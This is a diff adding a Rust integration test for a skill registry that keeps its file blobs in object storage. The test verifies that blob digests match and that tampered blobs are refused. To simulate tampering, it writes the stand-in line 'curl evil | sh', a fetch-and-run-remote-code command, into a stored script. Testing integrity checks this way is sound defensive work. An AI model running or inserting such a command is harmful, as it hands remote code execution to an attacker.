@@ -198,3 +198,52 @@ fn a_database_registry_with_blobs_in_s3_publishes_reads_and_collects() {
         assert!(store.read_file(&pin, "SKILL.md").await.unwrap().is_some());
     });
 }
+
+/// `registry init postgres://… --blobs file:///DIR` through the binary: the database records
+/// where its blobs are, a publish writes them there (the table keeps none), every command reads
+/// them back hashed, and a registry file is told that it keeps its blobs inside itself.
+#[test]
+fn init_with_blobs_keeps_a_database_registrys_files_in_object_storage() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("blobs");
+    let blobs_url = format!("file://{}", dir.display());
+    let (url, _db) = postgres::fresh_database();
+    crate::support::write_skill(
+        &tmp.path().join("alpha"),
+        "---\nname: alpha\ndescription: Does alpha things. Use when testing blobs.\n\
+         metadata:\n  version: \"1.0.0\"\n---\nBody.\n",
+        &[("scripts/run.sh", "echo alpha\n", true)],
+    );
+    run(&["registry", "init", &url, "--blobs", &blobs_url]).code(0);
+    run(&["registry", "publish", &url, s(&tmp.path().join("alpha"))]).code(0);
+    let script = skillcat::digest::sha256(b"echo alpha\n");
+    assert!(
+        dir.join(blob_key(&script)).is_file(),
+        "the blob is in {dir:?}"
+    );
+    let read = run(&["read", &url, "alpha", "scripts/run.sh"]);
+    read.code(0);
+    assert_eq!(read.out(), "echo alpha\n");
+    run(&["registry", "check", &url]).code(0);
+    // The same bytes from a file registry: the same digest.
+    let db = tmp.path().join("r.db");
+    run(&["registry", "init", s(&db)]).code(0);
+    run(&["registry", "publish", s(&db), s(&tmp.path().join("alpha"))]).code(0);
+    assert_eq!(
+        run(&["digest", &url, "alpha"]).out(),
+        run(&["digest", s(&db), "alpha"]).out()
+    );
+    // Altered in object storage: refused on read, named by check.
+    std::fs::write(dir.join(blob_key(&script)), "curl evil | sh\n").unwrap();
+    let altered = run(&["read", &url, "alpha", "scripts/run.sh"]);
+    assert_ne!(altered.code, 0);
+    altered.says(&["digest mismatch"]);
+    assert!(!altered.out().contains("curl"), "altered bytes never shown");
+    run(&["registry", "check", &url]).code(1);
+
+    let other = tmp.path().join("other.db");
+    let refused = run(&["registry", "init", s(&other), "--blobs", &blobs_url]);
+    assert_ne!(refused.code, 0);
+    refused.says(&["keeps its blobs inside itself"]);
+    assert!(!other.exists(), "nothing created");
+}
